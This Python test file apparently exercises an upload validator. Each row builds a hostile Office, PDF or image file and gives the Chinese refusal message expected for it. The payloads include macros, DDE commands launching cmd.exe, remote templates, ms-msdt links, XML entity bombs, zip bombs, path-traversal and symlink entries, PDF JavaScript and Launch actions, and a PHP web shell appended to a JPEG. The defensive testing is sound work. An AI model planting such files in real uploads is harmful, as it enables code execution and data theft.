"""Files that only look like papers. Each row: what it is, its ending, its bytes, how the refusal begins."""
# ruff: noqa: E501 - a row is a line

import io
import zipfile
import zlib

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, Stream, String

from tests.assessments.filetypes.paper_parts import (
    DOCUMENT_RELS,
    OLE,
    PAGES,
    WORD,
    WORKBOOK_RELS,
    annotated,
    by_hand,
    changed,
    chunk,
    compound_file,
    docx,
    embedding,
    field,
    formula,
    in_body,
    opening,
    packed,
    pdf,
    picture,
    png_of,
    related,
    resized_jpeg,
    saved_pdf,
    typed,
    unpacked,
    xlsx,
)

MACRO, ACTIVE_X, DDE = "文件含宏", "文件含有 ActiveX 控件", "文件含有自动执行外部命令的域或公式（DDE）"
OUTSIDE, EMBEDDED = "文件会自动读取网络或其他文件中的内容（如模板、图片、对象）", "文件内嵌了程序或其他文件"
DOCUMENT_TYPE, BOMB = "文件含有不允许的内容（文档类型声明）", "文件解压后过大"
PATHS, BROKEN, FOREIGN = "文件内部的路径不合规或重复", "文件已损坏", "文件前后夹带了其他内容（如网页、压缩包或程序）"
ENCRYPTED = "文件已加密"
PDF_SCRIPT, PDF_BROKEN = "PDF 文件含有脚本（JavaScript）", "PDF 文件已损坏"
PDF_EMBEDDED, PDF_MEDIA = "PDF 文件内嵌了其他文件", "PDF 文件含有音视频或三维内容"
PDF_AUTOMATIC = "PDF 文件打开时会自动访问网址或其他文件"
PICTURE_BROKEN, PICTURE_LARGE = "图片已损坏", "图片尺寸过大"

_SCRIPT = b"<script>alert(document.domain)</script>"
_PAGE = b"<html><body>" + _SCRIPT + b"</body></html>"
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&b;</w:document>'
)
_OUTER = '<?xml version="1.0" encoding="{}"?><!DOCTYPE d SYSTEM "http://example.com/x.dtd"><d/>'
_CELL = "cmd|'/c calc'!A0"


def _main(text: bytes) -> bytes:
    return changed(docx(), {"word/document.xml": text})


def _named(*names: str) -> bytes:
    """A Word file with more entries of these names, one of which it may have already."""
    return packed([*unpacked(docx()).items(), *((name, b"x") for name in names)])


def _link(target: str = "/etc/passwd") -> bytes:
    link = zipfile.ZipInfo("word/media/image9.png")
    link.external_attr = 0o120777 << 16
    return packed([*unpacked(docx()).items(), (link, target)])


def _flagged(package: bytes) -> bytes:
    """Says of every entry that it is encrypted."""
    content = bytearray(package)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def _lying(package: bytes) -> bytes:
    """Says of its main part that it unpacks to ten bytes."""
    content = bytearray(package)
    for mark, name, size in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        at = content.find(mark)
        while content[at + name : at + name + 17] != b"word/document.xml":
            at = content.find(mark, at + 4)
        content[at + size : at + size + 4] = (10).to_bytes(4, "little")
    return bytes(content)


def _overlapping() -> bytes:
    """Every entry of the directory leads to the same data."""
    content = bytearray(packed([*unpacked(docx()).items(), ("a.bin", bytes(9000)), ("b.bin", bytes(9000))]))
    places = []
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        places.append(at)
        at = content.find(b"PK\x01\x02", at + 4)
    first, second = places[-2:]
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    place = int.from_bytes(content[first + 42 : first + 46], "little")
    content[second + 46 : second + 51] = content[first + 46 : first + 51] = content[place + 30 : place + 35]
    content[second + 46 : second + 51] = b"a.BIN"
    return bytes(content)


def _many(count: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("word/document.xml", "<a/>")
        for number in range(count):
            archive.writestr(str(number), b"")
    return file.getvalue()


def _nested(depth: int) -> bytes:
    return changed(docx(), {f"word/embeddings/{depth}.docx": _nested(depth - 1) if depth else docx()})


def _by_content_type(old: str, new: str, package: bytes) -> bytes:
    return changed(package, replace=[("[Content_Types].xml", old, new)])


def _hidden_in_object_stream() -> bytes:
    def change(document):
        action = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
        document.Root.Names = document.make_indirect(
            Dictionary(
                JavaScript=document.make_indirect(Dictionary(Names=Array(["a", document.make_indirect(action)])))
            )
        )

    return pdf(change, object_stream_mode=ObjectStreamMode.generate)


def _encrypted_pdf(**passwords: str) -> bytes:
    return pdf(encryption=Encryption(**passwords))


def _encrypted_script() -> bytes:
    with Pdf.open(io.BytesIO(opening(S=Name.JavaScript, JS="app.alert(1)"))) as document:
        return saved_pdf(document, encryption=Encryption(owner="a", user=""))


def _chained() -> bytes:
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    return opening(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script)


def _page_action() -> bytes:
    return pdf(
        lambda document: document.pages[0].obj.__setattr__(
            "AA", Dictionary(O=Dictionary(S=Name.URI, URI="http://example.com/"))
        )
    )


def _form(**extra) -> bytes:
    def change(document):
        document.Root.AcroForm = Dictionary(Fields=Array([]), **extra)

    return pdf(change)


def _stream_bomb(**more) -> bytes:
    bomb = zlib.compress(bytes(250_000_000), 9)

    def change(document):
        document.pages[0].Contents = Stream(document, bomb, Filter=Name.FlateDecode, **more)

    return pdf(change, compress_streams=False)


def _twice_packed() -> bytes:
    def change(document):
        twice = zlib.compress(zlib.compress(bytes(10_000_000), 9), 9)
        filters = Array([Name.FlateDecode, Name.FlateDecode])
        document.pages[0].Contents = Stream(document, twice, Filter=filters)

    return pdf(change, compress_streams=False)


def _pdf_picture(width: int, height: int) -> bytes:
    def change(document):
        form = {"Type": Name.XObject, "Subtype": Name.Image, "ColorSpace": Name.DeviceGray, "BitsPerComponent": 8}
        image = Stream(document, b"x", Width=width, Height=height, **form)
        document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))

    return pdf(change)


def _pages_without_end() -> bytes:
    return by_hand(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_OFFICE_2007 = "http://schemas.microsoft.com/office/2006/relationships/"
_PE = b"MZ" + bytes(62) + b"PE\0\0" + bytes(200)
_RAW_PIXELS = zlib.compress(bytes(41 * 30))

# fmt: off
HOSTILE = [

    ("macros by relationship", ".docx", lambda: related(docx(), f"{_OFFICE_2007}vbaProject", "vbaProject.bin", parts={"word/vbaProject.bin": compound_file("VBA")}, outside=False), MACRO),
    ("macros under another name", ".docx", lambda: related(docx(), f"{_OFFICE_2007}vbaProject", "fonts.bin", parts={"word/fonts.bin": b"x"}, outside=False), MACRO),
    ("macros that nothing leads to", ".docx", lambda: changed(docx(), {"custom/vbaProject.bin": b"x"}), MACRO),
    ("macros by what they are", ".xlsx", lambda: changed(xlsx(), {"xl/printerSettings1.bin": compound_file("_VBA_PROJECT_CUR", "_VBA_PROJECT")}), MACRO),
    ("a document with macros by its type", ".docx", lambda: _by_content_type(WORD, "application/vnd.ms-word.document.macroEnabled.main+xml", docx()), MACRO),
    ("a workbook with macros by its type", ".xlsx", lambda: _by_content_type(_SHEET, "application/vnd.ms-excel.sheet.macroEnabled.main+xml", xlsx()), MACRO),
    ("a sheet of macros of Excel 4", ".xlsx", lambda: typed(xlsx(), "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", b"<a/>"), MACRO),
    ("a sheet of macros by relationship", ".xlsx", lambda: related(xlsx(), f"{_OFFICE_2007}xlMacrosheet", "s.xml", WORKBOOK_RELS, parts={"xl/s.xml": "<a/>"}, outside=False), MACRO),
    ("macros in a workbook inside", ".docx", lambda: changed(docx(), {"word/embeddings/a.xlsx": changed(xlsx(), {"xl/vbaProject.bin": b"x"})}), MACRO),
    ("macros of a presentation inside", ".xlsx", lambda: changed(xlsx(), {"ppt/vbaProject.bin": b"x"}), MACRO),
    ("a control", ".docx", lambda: related(docx(), "control", "activeX/activeX1.xml", parts={"word/activeX/activeX1.xml": "<a/>"}, outside=False), ACTIVE_X),
    ("a control by its type", ".xlsx", lambda: typed(xlsx(), "xl/x.bin", "application/vnd.ms-office.activeX"), ACTIVE_X),
    ("an add-in from the web", ".docx", lambda: related(docx(), "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "t.xml", "_rels/.rels", parts={"t.xml": "<a/>"}, outside=False), "文件含有网络加载项"),

    ("a template from the web", ".docx", lambda: related(docx(), "attachedTemplate", "http://example.com/t.dotm", "word/_rels/settings.xml.rels"), OUTSIDE),
    ("a template from a share", ".docx", lambda: related(docx(), "attachedTemplate", "file://10.0.0.1/t.dotm", "word/_rels/settings.xml.rels"), OUTSIDE),
    ("a template from a share with backslashes", ".docx", lambda: related(docx(), "attachedTemplate", r"\\10.0.0.1\s\t.dotm", "word/_rels/settings.xml.rels"), OUTSIDE),
    ("an object from the web", ".docx", lambda: related(docx(), "oleObject", "mhtml:http://example.com/x!http://example.com/x"), OUTSIDE),
    ("an object from a file", ".docx", lambda: related(docx(), "oleObject", "file:///C:/Windows/calc.exe"), OUTSIDE),
    ("an object by its name for programs", ".docx", lambda: related(docx(), "oleObject", "ms-msdt:/id PCWDiagnostic"), OUTSIDE),
    ("a picture from the web", ".docx", lambda: related(docx(), "image", "https://example.com/track.png"), OUTSIDE),
    ("a picture from the web in a header", ".docx", lambda: related(docx(), "image", "https://example.com/track.png", "word/_rels/header1.xml.rels"), OUTSIDE),
    ("a frame", ".docx", lambda: related(docx(), "frame", "other.htm", "word/_rels/webSettings.xml.rels"), OUTSIDE),
    ("a workbook from the web", ".xlsx", lambda: related(xlsx(), "externalLinkPath", "http://example.com/b.xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels"), OUTSIDE),
    ("a web page inside", ".docx", lambda: related(docx(), "aFChunk", "chunk.htm", parts={"word/chunk.htm": _PAGE.decode()}, outside=False), "文件引用了其他格式的内容（altChunk）"),
    ("a link that is a script", ".docx", lambda: related(docx(), "hyperlink", "javascript:alert(1)"), "文件含有脚本"),
    ("a query of the web", ".xlsx", lambda: changed(xlsx(), {"xl/connections.xml": '<connections xmlns="a"><connection><webPr url="http://example.com"/></connection></connections>'}), "文件含有外部数据连接"),
    ("a formula that asks the web", ".xlsx", lambda: formula("WEBSERVICE(&quot;http://example.com&quot;)"), "文件含有外部数据连接"),
    ("a text from a share", ".docx", lambda: field(r'INCLUDETEXT "\\\\10.0.0.1\\s\\a.docx"'), OUTSIDE),

    ("a command in a field", ".docx", lambda: field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'), DDE),
    ("a command in pieces", ".docx", lambda: field(' dde excel "a"', pieces=7), DDE),
    ("a command in a simple field", ".docx", lambda: in_body('<w:fldSimple w:instr="DDE excel a b"/>'), DDE),
    ("a command in a formula", ".xlsx", lambda: formula(_CELL), DDE),
    ("a command among sums", ".xlsx", lambda: formula(f"1+{_CELL}"), DDE),
    ("a command as a link", ".xlsx", lambda: changed(xlsx(), {"xl/externalLinks/externalLink1.xml": '<externalLink xmlns="a"><ddeLink ddeService="cmd"/></externalLink>'}), DDE),

    ("a program inside", ".docx", lambda: changed(docx(), {"word/embeddings/oleObject1.bin": compound_file("\x01Ole10Native", more=_PE)}), EMBEDDED),
    ("a program as a picture", ".docx", lambda: changed(docx(), {"word/media/image1.png": _PE}), EMBEDDED),
    ("a script by its name", ".xlsx", lambda: changed(xlsx(), {"xl/media/run.vbs": "x"}), EMBEDDED),
    ("the old editor of formulas", ".docx", lambda: changed(docx(), {"word/embeddings/o.bin": compound_file("Equation Native", more=bytes.fromhex("02ce020000000000c000000000000046"))}), EMBEDDED),
    ("a zip inside", ".docx", lambda: changed(docx(), {"word/embeddings/a.bin": packed([("a.txt", "a")])}), EMBEDDED),
    ("packages in packages", ".docx", lambda: _nested(3), EMBEDDED),
    ("a picture with a script", ".docx", lambda: changed(docx(), {"word/media/i.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}), "文件含有脚本"),
    ("a huge picture inside", ".docx", lambda: changed(docx(), {"word/media/i.png": png_of(100_000, 100_000, _RAW_PIXELS)}), PICTURE_LARGE),

    ("a billion laughs", ".docx", lambda: _main(_LAUGHS.encode()), DOCUMENT_TYPE),
    ("an external document type", ".docx", lambda: changed(docx(), {"customXml/item9.xml": _OUTER.format("UTF-8")}), DOCUMENT_TYPE),
    ("the same in UTF-16", ".docx", lambda: _main(_OUTER.format("UTF-16").encode("utf-16")), DOCUMENT_TYPE),
    ("the same in UTF-16 without its mark", ".xlsx", lambda: changed(xlsx(), {"xl/styles.xml": _OUTER.format("UTF-16").encode("utf-16-be")}), DOCUMENT_TYPE),
    ("the same in UTF-7", ".docx", lambda: _main(b'<?xml version="1.0" encoding="UTF-7"?>' + _OUTER.format("UTF-8")[38:].encode("utf-7")), "文件使用了不允许的文字编码"),
    ("entities in the relationships", ".docx", lambda: changed(docx(), {DOCUMENT_RELS: _LAUGHS}), DOCUMENT_TYPE),
    ("entities in the list of types", ".docx", lambda: changed(docx(), {"[Content_Types].xml": _LAUGHS}), DOCUMENT_TYPE),
    ("a main part that is no XML", ".docx", lambda: _main(b"<w:document><w:body>"), BROKEN),

    ("a flat bomb", ".docx", lambda: changed(docx(), {"word/media/a.xml": b" " * 125_000_000}), BOMB),
    ("a bomb below the size of a part", ".docx", lambda: changed(docx(), {"word/media/a.xml": b" " * 20_000_000}), BOMB),
    ("many parts that come to a bomb", ".docx", lambda: changed(docx(), {f"word/media/{number}.bmp": bytes(45_000_000) for number in range(7)}), BOMB),
    ("a size that lies", ".docx", lambda: _lying(docx()), BROKEN),
    ("entries one over the other", ".docx", _overlapping, PATHS),
    ("620,000 entries", ".docx", lambda: _many(6_000), "文件内的部件超过 5000 个"),
    ("an absolute path", ".docx", lambda: _named("/etc/cron.d/x"), PATHS),
    ("a path upwards", ".docx", lambda: _named("word/../../../x"), PATHS),
    ("a path upwards with backslashes", ".xlsx", lambda: packed([*unpacked(xlsx()).items(), ("..\\..\\x", b"x")]), PATHS),
    ("a drive", ".docx", lambda: _named("C:/Windows/x"), PATHS),
    ("a symbolic link", ".docx", _link, PATHS),
    ("the same name in other letters", ".docx", lambda: _named("WORD/Document.xml"), PATHS),
    ("encrypted entries", ".docx", lambda: _flagged(docx()), ENCRYPTED),
    ("a page before the zip", ".docx", lambda: _PAGE + docx(), "扩展名是 .docx"),
    ("a page behind the zip", ".docx", lambda: docx() + _PAGE, FOREIGN),
    ("two zips one behind the other", ".docx", lambda: docx() + docx(), FOREIGN),
    ("half of a file", ".xlsx", lambda: xlsx()[: len(xlsx()) // 2], BROKEN),
    ("without relationships", ".docx", lambda: packed((name, part) for name, part in unpacked(docx()).items() if name != "_rels/.rels"), BROKEN),

    ("a password", ".docx", lambda: compound_file("EncryptionInfo", "EncryptedPackage"), ENCRYPTED),
    ("an old document", ".docx", lambda: compound_file("WordDocument"), "这是旧版 Office 文件"),
    ("an old workbook with macros", ".xlsx", lambda: compound_file("Workbook", "_VBA_PROJECT_CUR"), "这是旧版 Office 文件"),
    ("a workbook as a document", ".docx", xlsx, "扩展名是 .docx"),
    ("a plain zip", ".docx", lambda: packed([("a.txt", "a")]), "扩展名是 .docx"),
    ("a template", ".docx", lambda: _by_content_type(WORD, WORD.replace("document.main", "template.main"), docx()), "这是模板文件"),
    ("a binary workbook", ".xlsx", lambda: _by_content_type(_SHEET, "application/vnd.ms-excel.sheet.binary.macroEnabled.main", xlsx()), "这是二进制工作簿"),
    ("rich text", ".docx", lambda: b"{\\rtf1\\ansi{\\object\\objocx}}", "扩展名是 .docx"),
    ("a page as a document", ".docx", lambda: _PAGE, "扩展名是 .docx"),
    ("a page as a PDF", ".pdf", lambda: _PAGE, "扩展名是 .pdf"),
    ("a drawing with a script", ".png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + _SCRIPT + b"</svg>", "扩展名是 .png"),
    ("a program", ".pdf", lambda: _PE, "扩展名是 .pdf"),
    ("formulas as a workbook", ".xlsx", lambda: b"=cmd|'/c calc'!A0,1\r\n", "扩展名是 .xlsx"),

    ("a script behind the mark", ".pdf", lambda: b"%PDF-1.7\n" + _SCRIPT, PDF_BROKEN),
    ("only the mark", ".pdf", lambda: b"%PDF-", PDF_BROKEN),
    ("a page before the PDF", ".pdf", lambda: _PAGE + pdf(), FOREIGN),
    ("a page behind the PDF", ".pdf", lambda: pdf() + _PAGE, FOREIGN),
    ("a zip behind the PDF", ".pdf", lambda: pdf() + packed([("a.exe", _PE)]), FOREIGN),
    ("a zip before the PDF", ".pdf", lambda: packed([("a", "a")]) + pdf(), FOREIGN),
    ("a picture that is a PDF too", ".pdf", lambda: picture("GIF") + pdf(), FOREIGN),
    ("much behind the PDF", ".pdf", lambda: pdf() + bytes(range(1, 256)) * 40, FOREIGN),
    ("a script when opened", ".pdf", lambda: opening(S=Name.JavaScript, JS="app.alert(1)"), PDF_SCRIPT),
    ("a script after a jump", ".pdf", _chained, PDF_SCRIPT),
    ("a script in an object stream", ".pdf", _hidden_in_object_stream, PDF_SCRIPT),
    ("a script in letters by number", ".pdf", lambda: by_hand(b"<</Type/Catalog/Pages 2 0 R/Open#41ction<</S/J#61vaScr#69pt/J#53(app.alert\\(1\\))>>>>", *PAGES), PDF_SCRIPT),
    ("a script under a name in GBK", ".pdf", lambda: by_hand(b"<</Type/Catalog/Pages 2 0 R/\xce\xc4 <</\xd5\xc2[<</S/JavaScript/JS(1)>>]>>>>", *PAGES), PDF_SCRIPT),
    ("a script as an address in UTF-16", ".pdf", lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert('县')"))), PDF_SCRIPT),
    ("a script behind a link", ".pdf", lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.JavaScript, JS="1")), PDF_SCRIPT),
    ("a script as an address", ".pdf", lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="javascript:alert(1)")), PDF_SCRIPT),
    ("a script in an encrypted file that opens", ".pdf", _encrypted_script, PDF_SCRIPT),
    ("a program that is started", ".pdf", lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F="cmd.exe")), "PDF 文件含有启动程序的动作"),
    ("an address that is opened by itself", ".pdf", lambda: opening(S=Name.URI, URI="http://example.com/"), PDF_AUTOMATIC),
    ("a file that is opened by itself", ".pdf", lambda: opening(S=Name.GoToR, F=r"\\10.0.0.1\a.pdf"), PDF_AUTOMATIC),
    ("an address that a page opens", ".pdf", _page_action, PDF_AUTOMATIC),
    ("a form that sends", ".pdf", lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F="http://example.com")), "PDF 文件含有向外发送数据的表单"),
    ("a program inside the PDF", ".pdf", lambda: embedding("a.exe", _PE), PDF_EMBEDDED),
    ("a program called data", ".pdf", lambda: embedding("a.xml", _PE), PDF_EMBEDDED),
    ("a document inside the PDF", ".pdf", lambda: embedding("a.docx", docx()), PDF_EMBEDDED),
    ("a film", ".pdf", lambda: annotated(Subtype=Name.RichMedia), PDF_MEDIA),
    ("a model", ".pdf", lambda: annotated(Subtype=Name("/3D")), PDF_MEDIA),
    ("a form of XML", ".pdf", lambda: _form(XFA="<xdp/>"), "PDF 文件是动态表单（XFA）"),
    ("a PDF that asks for a password", ".pdf", lambda: _encrypted_pdf(owner="a", user="b"), ENCRYPTED),
    ("no pages", ".pdf", lambda: pdf(pages=0), "PDF 文件中没有页面"),
    ("pages that lead to themselves", ".pdf", _pages_without_end, PDF_BROKEN),
    ("too many pages", ".pdf", lambda: pdf(pages=5_001), "PDF 文件超过 5000 页"),
    ("a bomb on a page", ".pdf", _stream_bomb, "PDF 文件解压后过大"),
    ("a bomb packed twice", ".pdf", _twice_packed, "PDF 文件解压后过大"),
    ("a huge picture on a page", ".pdf", lambda: _pdf_picture(100_000, 100_000), "PDF 文件中的图片尺寸过大"),

    ("a picture of 100,000 × 100,000", ".png", lambda: png_of(100_000, 100_000, _RAW_PIXELS), PICTURE_LARGE),
    ("the same as a JPEG", ".jpg", lambda: resized_jpeg(60_000, 60_000), PICTURE_LARGE),
    ("a very long picture", ".png", lambda: png_of(1, 1_000_000, _RAW_PIXELS), PICTURE_LARGE),
    ("more pixels than the header says", ".png", lambda: png_of(40, 30, zlib.compress(bytes(50_000_000))), PICTURE_LARGE),
    ("many frames", ".png", lambda: png_of(4_000, 4_000, _RAW_PIXELS, more=chunk(b"acTL", (500).to_bytes(4, "big") + bytes(4))), PICTURE_LARGE),
    ("only the mark of a PNG", ".png", lambda: b"\x89PNG\r\n\x1a\n" + _SCRIPT, PICTURE_BROKEN),
    ("only the mark of a JPEG", ".jpg", lambda: b"\xff\xd8\xff\xe0" + _SCRIPT, PICTURE_BROKEN),
    ("a PNG that was cut off", ".png", lambda: picture("PNG")[:-20], PICTURE_BROKEN),
    ("a PNG that was changed", ".png", lambda: picture("PNG").replace(b"IDAT", b"IDAU"), PICTURE_BROKEN),
    ("a JPEG that was cut off", ".jpg", lambda: picture("JPEG", size=(900, 900))[:700], PICTURE_BROKEN),
    ("a page behind a PNG", ".png", lambda: picture("PNG") + _PAGE, FOREIGN),
    ("a zip behind a JPEG", ".jpg", lambda: picture("JPEG") + packed([("a.exe", _PE)]), FOREIGN),
    ("a PHP program behind a JPEG", ".jpg", lambda: picture("JPEG") + b"<?php system($_GET[0]);", FOREIGN),
    ("a program behind a JPEG", ".jpeg", lambda: picture("JPEG") + _PE, FOREIGN),
    ("a PDF behind a JPEG", ".jpg", lambda: picture("JPEG") + pdf(), "扩展名是 .jpg"),
    ("a GIF with a script", ".jpg", lambda: b"GIF89a/*" + bytes(10) + b"*/=alert(1)", "扩展名是 .jpg"),
    ("a GIF as a PNG", ".png", lambda: picture("GIF"), "扩展名是 .png"),
    ("a PNG as a JPEG", ".jpg", lambda: picture("PNG"), "扩展名是 .jpg"),
    ("a picture as a PDF", ".pdf", lambda: picture("JPEG"), "扩展名是 .pdf"),
    ("an old object as a picture", ".png", lambda: OLE, "这是旧版 Office 文件"),
]
# fmt: on
